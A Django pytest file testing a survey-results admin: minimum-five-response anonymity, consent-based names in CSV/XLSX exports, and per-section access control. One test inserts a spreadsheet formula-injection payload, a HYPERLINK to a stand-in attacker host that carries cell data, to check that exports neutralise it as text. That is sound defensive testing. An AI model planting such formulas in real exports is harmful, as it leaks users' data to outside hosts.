"""Results for coordinators in the admin: k ≥ 5, anonymity, exports, who may see them."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from learning.evaluations import selectors
from learning.evaluations.models import Response
from tests.spreadsheets import csv_body

from .conftest import answer, attend, ended, open_survey

pytestmark = pytest.mark.django_db


def results_url(survey):
    return reverse("evaluations_results:survey", args=[survey.pk])


def answered(survey, attendees, count, **fields):
    people = attendees(count)
    for number, person in enumerate(people):
        answer(survey, person, rating=1 + number % 5, **fields)
    return people


def test_four_responses_show_nothing_five_show_the_results(client, coordinator, survey, attendees):
    people = attendees(5)
    for person, rating in zip(people[:4], [5, 4, 4, 2], strict=True):
        answer(survey, person, rating=rating, improve=f"Verbeterpunt van {person.pk}")
    client.force_login(coordinator)

    page = client.get(results_url(survey))
    assert page.status_code == 200
    assert "Er zijn 4 antwoorden. Resultaten zijn pas te zien vanaf 5 antwoorden" in page.text
    assert "Verbeterpunt" not in page.text and "Gemiddeld" not in page.text
    export = client.get(results_url(survey) + "?export=csv")
    assert export.status_code == 302  # nothing to export

    answer(survey, people[4], rating=5, improve="Meer pauzes")
    page = client.get(results_url(survey))
    assert "5 antwoorden." in page.text
    assert "Gemiddeld: 4,0" in page.text or "Gemiddeld: 4.0" in page.text
    assert "Meer pauzes" in page.text


def test_names_only_with_consent_in_page_and_export(client, coordinator, survey, attendees):
    people = attendees(6)
    for person in people[:5]:
        answer(survey, person, takeaway=f"Inzicht van {person.full_name}x")
    answer(survey, people[5], takeaway="Met naam", named=True)
    client.force_login(coordinator)

    page = client.get(results_url(survey)).text
    export = client.get(results_url(survey) + "?export=csv")
    rows = list(csv.reader(io.StringIO(csv_body(export))))

    named = people[5].full_name
    assert named in page
    assert [row[-1] for row in rows[1:]].count(named) == 1
    assert {row[-1] for row in rows[1:]} == {"", named}
    for person in people[:5]:
        # The names typed into answers are the people's own words; their *account* names
        # appear nowhere, nor their e-mail addresses.
        assert person.email not in page
        assert all(person.email not in cell for row in rows for cell in row)
    assert rows[0] == [
        "Bijeenkomst",
        "Hoe waardeert u deze bijeenkomst in het algemeen?",
        "Wat neemt u mee?",
        "Wat kan beter?",
        "Naam (alleen met toestemming)",
    ]


def test_a_few_anonymous_responses_among_named_ones_are_not_singled_out(
    client, coordinator, survey, attendees
):
    # Four named responses and one without a name: the named rows of the export subtracted
    # from the totals would leave the anonymous one, and who came is known at the door.
    people = attendees(6)
    for person in people[:4]:
        answer(survey, person, rating=5, improve=f"Verbeterpunt van {person.full_name}", named=True)
    answer(survey, people[4], rating=1, improve="Anoniem verbeterpunt")
    client.force_login(coordinator)

    page = client.get(results_url(survey))
    assert page.status_code == 200
    assert "Er zijn 5 antwoorden, waarvan 1 zonder naam" in page.text
    assert "Anoniem verbeterpunt" not in page.text and "Gemiddeld" not in page.text
    assert client.get(results_url(survey) + "?export=csv").status_code == 302

    # All named: nobody to single out, the results show.
    Response.objects.filter(named_user__isnull=True).update(named_user=people[4])
    assert selectors.results_for(surveys=[survey]).shown
    assert "Anoniem verbeterpunt" in client.get(results_url(survey)).text


def test_export_xlsx(client, coordinator, survey, attendees):
    answered(survey, attendees, 5)
    client.force_login(coordinator)
    response = client.get(results_url(survey) + "?export=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_question_headings_in_the_exports_are_never_formulas(
    client, coordinator, survey, attendees
):
    # Whoever keeps the question forms writes the labels: the heading row, too, is text.
    formula = '=HYPERLINK("https://kwaad.example/?d="&A2,"Klik")'
    survey.questions[0]["label"] = formula
    survey.save(update_fields=["questions"])
    answered(survey, attendees, 5)
    client.force_login(coordinator)

    rows = list(csv.reader(io.StringIO(csv_body(client.get(results_url(survey) + "?export=csv")))))
    assert rows[0][1] == f"'{formula}"

    export = client.get(results_url(survey) + "?export=xlsx")
    sheet = load_workbook(
        io.BytesIO(b"".join(export.streaming_content) if export.streaming else export.content)
    ).active
    heading = sheet.cell(row=1, column=2)
    assert heading.data_type == "s"
    assert heading.value == f"'{formula}"


def test_a_coordinator_of_another_section_is_refused(
    client, programme_coordinator, survey, attendees
):
    answered(survey, attendees, 5)
    client.force_login(programme_coordinator)
    assert client.get(results_url(survey)).status_code == 404
    assert client.get(results_url(survey) + "?export=csv").status_code == 404
    listing = client.get(reverse("evaluations_results:index"))
    assert survey.event.title not in listing.text


def test_a_participant_without_admin_rights_is_refused(client, survey, attendees):
    (person,) = answered(survey, attendees, 1)
    client.force_login(person)
    response = client.get(results_url(survey))
    assert response.status_code in (302, 403)


def test_programme_counts_only_surveys_with_five_responses(
    client, coordinator, make_masterclass, make_user
):
    big, small = ended(make_masterclass()), ended(make_masterclass())
    big_survey, small_survey = open_survey(big), open_survey(small)
    for event, survey, count in ((big, big_survey, 5), (small, small_survey, 3)):
        for _ in range(count):
            person = make_user()
            attend(event, person)
            answer(survey, person, rating=5 if event == big else 1, improve=f"{event.title} beter")
    client.force_login(coordinator)

    page = client.get(reverse("evaluations_results:programme", args=[big.get_parent().pk]))

    assert page.status_code == 200
    assert "5 antwoorden." in page.text
    assert "1 bijeenkomst telt niet mee" in page.text
    assert f"{small.title} beter" not in page.text
    assert f"{big.title} beter" in page.text


def test_programme_leaves_out_a_survey_whose_anonymous_responses_are_too_few(
    client, coordinator, make_masterclass, make_user
):
    big, mixed = ended(make_masterclass()), ended(make_masterclass())
    for event, named in ((big, [False] * 5), (mixed, [True] * 4 + [False])):
        survey = open_survey(event)
        for is_named in named:
            person = make_user()
            attend(event, person)
            answer(survey, person, improve=f"{event.title} beter", named=is_named)
    client.force_login(coordinator)

    page = client.get(reverse("evaluations_results:programme", args=[big.get_parent().pk]))

    assert "1 bijeenkomst telt niet mee" in page.text
    assert f"{mixed.title} beter" not in page.text
    assert f"{big.title} beter" in page.text


def test_programme_of_another_section_is_refused(client, coordinator, make_masterclass, make_user):
    masterclass = ended(make_masterclass())
    open_survey(masterclass)
    outsider = make_user(is_staff=True)
    client.force_login(outsider)
    url = reverse("evaluations_results:programme", args=[masterclass.get_parent().pk])
    assert client.get(url).status_code in (302, 403, 404)


def test_results_page_queries_stay_constant(client, coordinator, survey, attendees):
    client.force_login(coordinator)
    answered(survey, attendees, 5, takeaway="Goed", improve="Korter")
    client.get(results_url(survey))  # warm caches (site, menu)
    with CaptureQueriesContext(connection) as few:
        client.get(results_url(survey))
    answered(survey, attendees, 20, takeaway="Prima", improve="Langer")
    with CaptureQueriesContext(connection) as many:
        client.get(results_url(survey))
    assert len(many) == len(few), [q["sql"] for q in many]


def test_circle_coordinators_see_their_meetings_only(
    client, make_circle, make_member, staff_coordinator, make_user
):
    from django.contrib.auth.models import Group

    from learning.circles.models import MeetingAttendance
    from learning.evaluations import services

    other_coordinator = make_user(is_staff=True)
    for user in (staff_coordinator, other_coordinator):  # admin access, no event sections
        user.groups.add(Group.objects.get(name="Coördinatoren"))
    circle = make_circle(meetings=1, coordinators=[staff_coordinator])
    make_circle(meetings=1, coordinators=[other_coordinator])
    meeting = circle.meetings.get()
    survey = services.survey_open(survey=services.survey_for_occasion(meeting=meeting))
    for _ in range(5):
        member = make_member(circle)
        MeetingAttendance.objects.create(meeting=meeting, user=member, present=True)
        answer(survey, member, rating=4)

    client.force_login(staff_coordinator)
    assert "Gemiddeld" in client.get(results_url(survey)).text
    client.force_login(other_coordinator)
    assert client.get(results_url(survey)).status_code == 404
